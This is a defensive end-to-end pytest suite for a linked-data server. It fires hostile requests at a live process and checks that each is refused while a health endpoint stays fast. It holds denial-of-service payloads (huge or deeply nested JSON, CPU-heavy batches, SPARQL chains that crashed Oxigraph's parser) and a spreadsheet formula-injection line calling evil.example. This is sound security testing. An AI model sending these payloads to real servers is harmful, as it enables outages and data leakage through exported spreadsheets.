"""Hostile input, second pass (issue 21), replayed against a real `serve` process.

Every attack runs while a watcher asks `/-/health` every 0.1 s; each case asserts the attack got
its clear 4xx/5xx answer and that health never took 1 s or more meanwhile.
"""

from __future__ import annotations

import json
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from conftest import TEST_DATA, WRITE_TOKEN, LiveServer, copy_project, start_on_free_port
from many_links import PERSON, linkset_with_many_links

pytestmark = [pytest.mark.e2e]

HEALTH_LIMIT = 1.0
LONG_NAME = ("Svetlana Gorokhova Tatyana Polejayeva Mariya " * 11)[:500]


def heavy_batch(n: int = 500) -> str:
    """A batch of `n` long names of common words in differing orders: ~4 s of matching on the mini data
    ("Library", "National", "Baku" each reach many entities; one name repeated is much cheaper)."""
    words = "Svetlana Gorokhova Tatyana Polejayeva Mariya Aliyev Mammadov Baku Library National".split()
    return json.dumps(
        {f"q{i}": {"query": " ".join(words[(i * 7 + k * k) % len(words)] for k in range(60))[:500]} for i in range(n)}
    )


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    root = copy_project(tmp_path_factory.mktemp("hostile-input") / "mini", TEST_DATA / "mini")
    people = root / "data" / "people.ttl"
    text = people.read_text(encoding="utf-8")
    people.write_text(text.replace('"Svetlana Gorokhova"', json.dumps(EVIL), 1), encoding="utf-8")
    linkset_with_many_links(root, 2500)
    env = {"VISITGRAPH_RECONCILE_TIMEOUT": "1", "VISITGRAPH_CLIENT_BUDGET": "100000"}
    live = start_on_free_port(lambda port: LiveServer(root, port, extra_env=env))
    yield live
    live.stop()


def call(
    url: str, data: bytes | None = None, headers: dict[str, str] | None = None, timeout: float = 60.0
) -> tuple[int, dict[str, str], bytes]:
    """Send one request; return (status, headers, body) for any status."""
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            return resp.status, {k.lower(): v for k, v in resp.headers.items()}, resp.read()
    except urllib.error.HTTPError as e:
        return e.code, {k.lower(): v for k, v in e.headers.items()}, e.read()


@contextmanager
def health_watch(base: str) -> Iterator[list[float]]:
    """Ask /-/health every 0.1 s while the block runs; the list collects every latency."""
    seen: list[float] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            started = time.monotonic()
            status, _, _ = call(base + "/-/health", timeout=30)
            seen.append(time.monotonic() - started if status == 200 else 99.0)
            stop.wait(0.1)

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        stop.set()
        thread.join(35)
    assert seen, "health was never asked"
    assert max(seen) < HEALTH_LIMIT, f"/-/health took {max(seen):.2f} s during the attack"


def form(**fields: str) -> bytes:
    return urllib.parse.urlencode(fields).encode()


def assert_error(status: int, body: bytes, expected: int) -> dict[str, Any]:
    assert status == expected, body[:300]
    data = json.loads(body)
    assert data["ok"] is False and data["status"] == expected and data["error"]
    return dict(data)


# -- finding 1: reconciliation requests are capped, timed and budgeted ------------------------


def test_reconcile_huge_name_is_refused_quickly(server: LiveServer) -> None:
    queries = json.dumps({"q0": {"query": "(" * 300_000}})
    with health_watch(server.url):
        started = time.monotonic()
        status, _, body = call(server.url + "/reconcile", form(queries=queries))
        took = time.monotonic() - started
    assert "characters long" in assert_error(status, body, 400)["error"]
    assert took < 2, took


def test_reconcile_v1_match_huge_name_is_refused(server: LiveServer) -> None:
    body = json.dumps({"queries": [{"conditions": [{"matchType": "name", "propertyValue": "(" * 300_000}]}]})
    with health_watch(server.url):
        status, _, answer = call(
            server.url + "/reconcile/v1/match", body.encode(), {"Content-Type": "application/json"}
        )
    assert_error(status, answer, 400)


def test_reconcile_parallel_big_property_values_keep_health(server: LiveServer) -> None:
    prop = {"pid": "schema:jobTitle", "v": "director " * 6_700}  # ~60 KB
    queries = json.dumps({f"q{i}": {"query": "Svetlana", "properties": [prop]} for i in range(10)})
    with health_watch(server.url), ThreadPoolExecutor(10) as pool:
        results = list(pool.map(lambda _: call(server.url + "/reconcile", form(queries=queries)), range(10)))
    for status, _, body in results:
        assert_error(status, body, 400)


def test_reconcile_expanding_characters_are_capped(server: LiveServer) -> None:
    body = json.dumps(
        {"queries": [{"conditions": [{"matchType": "name", "propertyValue": "\ufdfa" * 180_000}]}]}, ensure_ascii=False
    ).encode()  # 540 KB of U+FDFA, 18 letters each once normalised
    with health_watch(server.url):
        status, _, answer = call(server.url + "/reconcile/v1/match", body, {"Content-Type": "application/json"})
    assert_error(status, answer, 400)


def test_extend_caps_ids(server: LiveServer) -> None:
    extend = json.dumps({"ids": [PERSON + "%2F" * 30_000], "properties": [{"id": "schema:name"}]})
    status, _, body = call(server.url + "/reconcile", form(extend=extend))
    assert_error(status, body, 400)


def test_reconcile_deep_nesting_is_a_400(server: LiveServer) -> None:
    with health_watch(server.url):
        status, _, body = call(server.url + "/reconcile", form(queries="[" * 20_000 + "]" * 20_000))
        status1, _, body1 = call(
            server.url + "/reconcile/v1/match", ("[" * 20_000).encode(), {"Content-Type": "application/json"}
        )
    assert "deeper" in assert_error(status, body, 400)["error"]
    assert_error(status1, body1, 400)


def test_reconcile_batch_stops_at_its_time_limit(server: LiveServer) -> None:
    """A full batch of long, all different names (~4 s of matching on this data) stops at reconcile_timeout (1 s here): 503."""
    queries = heavy_batch()
    with health_watch(server.url):
        started = time.monotonic()
        status, headers, body = call(server.url + "/reconcile", form(queries=queries))
        took = time.monotonic() - started
    assert "reconcile_timeout" in assert_error(status, body, 503)["error"]
    assert headers.get("retry-after")
    assert took < 1 + 2, took


# -- finding 5: every malformed JSON value is a 400 ---------------------------------------------

BAD_BATCHES = [
    ("query", "{bad"),
    ("queries", '{"q0": {"query": "x", "type": [1]}}'),
    ("queries", '{"q0": {"query": "x", "properties": [{"pid": "schema:affiliation", "v": {"id": 5}}]}}'),
    ("queries", '{"q0": {"query": "x", "limit": 1e400}}'),
    ("queries", '{"q0": {"query": "x", "limit": Infinity}}'),
    ("queries", '{"q0": {"query": "x", "limit": NaN}}'),
    ("queries", '{"q0": {"query": "x", "limit": 2.5}}'),
    ("queries", '{"\\ud800": {"query": "x"}}'),
    ("queries", '{"q0": {"query": "\\udc00"}}'),
    ("extend", '{"ids": ["\\ud800"], "properties": [{"id": "schema:name"}]}'),
    ("extend", '{"ids": [{"id": 5}], "properties": [{"id": "schema:name"}]}'),
]


@pytest.mark.parametrize(("field", "value"), BAD_BATCHES)
def test_reconcile_malformed_json_values_are_400(server: LiveServer, field: str, value: str) -> None:
    status, _, body = call(server.url + "/reconcile?" + urllib.parse.urlencode({field: value}))
    assert_error(status, body, 400)


@pytest.mark.parametrize(
    "body",
    [
        b'{"queries": [{"conditions": [{"matchType": "id", "propertyValue": {"id": 5}}]}]}',
        b'{"queries": [{"limit": 1e400, "conditions": []}]}',
        b'{"queries": [{"type": [1], "conditions": []}]}',
        b'{"queries": [{"conditions": [{"matchType": "name", "propertyValue": "\\ud800"}]}]}',
    ],
)
def test_reconcile_v1_malformed_json_values_are_400(server: LiveServer, body: bytes) -> None:
    status, _, answer = call(server.url + "/reconcile/v1/match", body, {"Content-Type": "application/json"})
    assert_error(status, answer, 400)


def test_reconcile_still_matches_after_the_checks(server: LiveServer) -> None:
    queries = json.dumps({"q0": {"query": "Tatyana Polejayeva", "type": "person", "limit": "3"}})
    status, _, body = call(server.url + "/reconcile", form(queries=queries))
    assert status == 200, body
    assert json.loads(body)["q0"]["result"][0]["id"] == "person/tatyana-polejayeva"


def test_reconcile_stops_inside_one_long_query(server: LiveServer) -> None:
    # no name and 20 long affiliation names: every entity is scored against each (2-4 s per query
    # on the mini data); the time limit (1 s here) is checked inside the query, not only between queries
    words = "Svetlana Gorokhova Tatyana Polejayeva Mariya Aliyev Mammadov Baku Library National Anna Ali".split()
    texts = [" ".join(words[(k * 7 + j) % len(words)] for k in range(80))[:500] for j in range(20)]
    query = {"query": "", "properties": [{"pid": "schema:affiliation", "v": t} for t in texts]}
    batch = json.dumps({f"q{i}": query for i in range(50)})
    with health_watch(server.url):
        started = time.monotonic()
        status, headers, body = call(server.url + "/reconcile", form(queries=batch))
        elapsed = time.monotonic() - started
    assert_error(status, body, 503)
    assert headers.get("retry-after")
    assert elapsed < 2.2, f"stopped after {elapsed:.2f} s with reconcile_timeout = 1"


# -- finding 2: linkset files are read in linear time ------------------------------------------

AUTH = {"Authorization": f"Bearer {WRITE_TOKEN}", "Content-Type": "text/turtle"}


@pytest.mark.parametrize(
    "text",
    [
        "\n" * 40_000 + "<a> <b> <c> .\n",
        "".join("[] <http://www.w3.org/2002/07/owl#sameAs> [] .\n" for _ in range(20_000)),
    ],
    ids=["blank-lines", "blank-node-triples"],
)
def test_linkset_post_is_linear(server: LiveServer, text: str) -> None:
    url = server.url + "/linksets?" + urllib.parse.urlencode({"contributor": "Hostile", "filename": "x.ttl"})
    with health_watch(server.url):
        started = time.monotonic()
        status, _, body = call(url, text.encode(), AUTH)
        took = time.monotonic() - started
    assert_error(status, body, 422)
    assert took < 5, took


# -- finding 4: spreadsheet formulas neutralised in CSV/TSV answers ------------------------------


def test_saved_query_csv_neutralises_formulas(server: LiveServer) -> None:
    status, headers, body = call(server.url + "/queries/search.csv?text=HYPERLINK")
    assert status == 200, body
    text = body.decode()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    assert headers["content-disposition"] == 'attachment; filename="search.csv"'
    status, headers, body = call(server.url + "/queries/search.tsv?text=HYPERLINK")
    assert status == 200 and "\"'=HYPERLINK" in body.decode()
    assert headers["content-disposition"] == 'attachment; filename="search.tsv"'


# -- finding 7: Range, If-Range and 416 ----------------------------------------------------------


def _dump(server: LiveServer) -> tuple[str, int, str, str]:
    url = server.url + "/dumps/visitgraph.nt"
    status, headers, body = call(url)
    assert status == 200
    return url, len(body), headers["etag"], headers["last-modified"]


def test_range_with_matching_if_range_resumes(server: LiveServer) -> None:
    url, size, etag, modified = _dump(server)
    for validator in (etag, modified):
        status, headers, body = call(url, headers={"Range": "bytes=10-19", "If-Range": validator})
        assert status == 206 and len(body) == 10
        assert headers["content-range"] == f"bytes 10-19/{size}"
    status, _, body = call(url, headers={"Range": "bytes=10-19", "If-Range": '"stale"'})
    assert status == 200 and len(body) == size


@pytest.mark.parametrize("header", ["bytes=abc", "bytes=0-1,5-6", "items=0-5", "bytes=9-3", "bytes 0-5"])
def test_malformed_or_multiple_ranges_are_ignored(server: LiveServer, header: str) -> None:
    url, size, _, _ = _dump(server)
    status, _, body = call(url, headers={"Range": header})
    assert status == 200 and len(body) == size


def test_unsatisfiable_range_gets_416_with_content_range(server: LiveServer) -> None:
    url, size, _, _ = _dump(server)
    status, headers, body = call(url, headers={"Range": f"bytes={size + 10}-"})
    assert_error(status, body, 416)
    assert headers["content-range"] == f"bytes */{size}"


# -- finding 8: typed parameters are ASCII ------------------------------------------------------


@pytest.mark.parametrize("year", ["\u0662\u0660\u0662\u0660", "\uff12\uff10\uff12\uff10", "2020\n", " 2020"])
def test_typed_parameters_refuse_non_ascii_and_newlines(server: LiveServer, year: str) -> None:
    status, _, body = call(server.url + "/queries/gifts.json?" + urllib.parse.urlencode({"year": year}))
    data = assert_error(status, body, 400)
    assert data.get("parameter") == "year"
    assert year.strip() not in data["error"] or year.isascii()


# -- finding 11: contributed links are paged -----------------------------------------------------


def test_resource_page_pages_contributed_links(server: LiveServer) -> None:
    url = f"{server.url}/id/{PERSON}"
    status, _, body = call(url, headers={"Accept": "text/html"})
    page = body.decode()
    assert status == 200
    assert page.count("https://example.org/agent/") < 400, page.count("https://example.org/agent/")
    assert "2500 in all" in page and "?links=2#links" in page
    status, _, body = call(url + "?links=25", headers={"Accept": "text/html"})
    assert status == 200 and "https://example.org/agent/02499" in body.decode()
    assert len(body) < 200_000
    status, _, body = call(url + ".ttl")
    assert status == 200 and body.count(b"example.org/agent/") == 2500  # the data keeps every link


def test_parallel_pages_with_many_links_keep_health_fast(server: LiveServer) -> None:
    url = f"{server.url}/id/{PERSON}"
    call(url, headers={"Accept": "text/html"})  # the generation's link index is built once
    with health_watch(server.url), ThreadPoolExecutor(8) as pool:
        pages = list(pool.map(lambda n: call(f"{url}?links={n % 25 + 1}", headers={"Accept": "text/html"}), range(24)))
    assert {status for status, _, _ in pages} == {200}
    assert all(b"2500 in all" in body for _, _, body in pages)


# -- finding 1: the per-client budget covers reconciliation (last: it spends the budget) ---------


def test_reconcile_time_counts_against_the_client_budget(tmp_path: Path) -> None:
    root = copy_project(tmp_path / "mini", TEST_DATA / "mini")
    live = start_on_free_port(
        lambda port: LiveServer(
            root, port, extra_env={"VISITGRAPH_CLIENT_BUDGET": "1", "VISITGRAPH_RECONCILE_TIMEOUT": "1"}
        )
    )
    try:
        queries = heavy_batch()
        statuses = []
        with health_watch(live.url):
            for _ in range(6):
                status, headers, body = call(live.url + "/reconcile", form(queries=queries))
                statuses.append(status)
                if status == 429:
                    assert headers.get("retry-after")
                    break
        assert 429 in statuses, statuses
    finally:
        live.stop()


@pytest.mark.parametrize(
    "where",
    [
        "FILTER(1" + "+1" * 10000 + " > 0)",
        " ".join(f"BIND({i} AS ?v{i})" for i in range(4000)),
        " UNION ".join("{ ?s ?p ?o }" for _ in range(10000)),
        "FILTER(" + "!" * 20000 + "true)",
    ],
    ids=["plus", "bind", "union", "not"],
)
def test_an_update_that_is_a_long_flat_chain_is_refused_and_the_server_stays_up(server: LiveServer, where: str) -> None:
    """Oxigraph's parser recurses on a flat chain: on the server's stack such an update was a SIGSEGV that took the
    server process down (the connection dropped). It is parsed in a child first (sparql.parseprobe): a 400."""
    update = f"INSERT {{ <https://example.org/x> <https://example.org/p> 1 }} WHERE {{ {where} }}"
    headers = {"Content-Type": "application/sparql-update", "Authorization": f"Bearer {WRITE_TOKEN}"}
    with health_watch(server.url) as seen:
        status, _, body = call(server.url + "/sparql/update", update.encode(), headers)
    assert status == 400, body[:300]
    assert b"flat chain of operators or patterns" in body
    assert seen and max(seen) < 99.0  # every health check answered
    assert server.proc.poll() is None
    log = (server.root / "serve.log").read_bytes()
    assert b"Unexpected exit" not in log


def test_a_query_that_is_a_long_flat_chain_is_a_400_and_check_calls_it_invalid(server: LiveServer) -> None:
    """The query worker dies on it (SIGSEGV in Oxigraph's recursive parser) and is replaced; that was a 503 blaming
    the memory setting, which invites retries, and `/sparql/check` called the query valid."""
    chain = "ASK { FILTER(" + "!" * 20000 + "true) }"
    with health_watch(server.url) as seen:
        status, _, body = call(server.url + "/sparql", chain.encode(), {"Content-Type": "application/sparql-query"})
        assert status == 400, body[:300]
        assert b"flat chain of operators or patterns" in body
        form = urllib.parse.urlencode({"query": chain}).encode()
        status, _, body = call(
            server.url + "/sparql/check", form, {"Content-Type": "application/x-www-form-urlencoded"}
        )
    assert status == 200 and json.loads(body)["valid"] is False, body[:300]
    assert seen and max(seen) < 99.0
    status, _, body = call(server.url + "/sparql?query=" + urllib.parse.quote("ASK { ?s ?p ?o }"))
    assert status == 200 and b"true" in body  # a fresh worker answers
